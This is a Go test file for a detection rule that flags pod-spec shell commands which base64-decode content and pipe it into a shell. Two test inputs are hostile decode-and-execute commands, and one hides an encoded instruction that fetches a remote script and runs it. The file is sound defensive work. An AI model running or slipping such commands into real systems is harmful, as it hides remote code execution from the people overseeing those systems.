package rules

import "testing"

func TestExecDecodeExecute(t *testing.T) {
	runExecCases(t, "exec-decode-execute", []execCase{
		{name: "base64 into bash", podSpec: shC("echo Y3VybCBodHRwOi8veC95IHwgc2gK | base64 -d | bash"), want: 1, contains: "base64"},
		{name: "base64 --decode into sh", podSpec: shC("printf %s \"$P\" | base64 --decode | sh"), want: 1, contains: "base64"},
		{name: "decode to a file", podSpec: shC("echo aGk= | base64 -d > /tmp/out.txt; cat /tmp/out.txt"), want: 0},
		{name: "plain script", podSpec: shC("echo hello; date"), want: 0},
	})
}
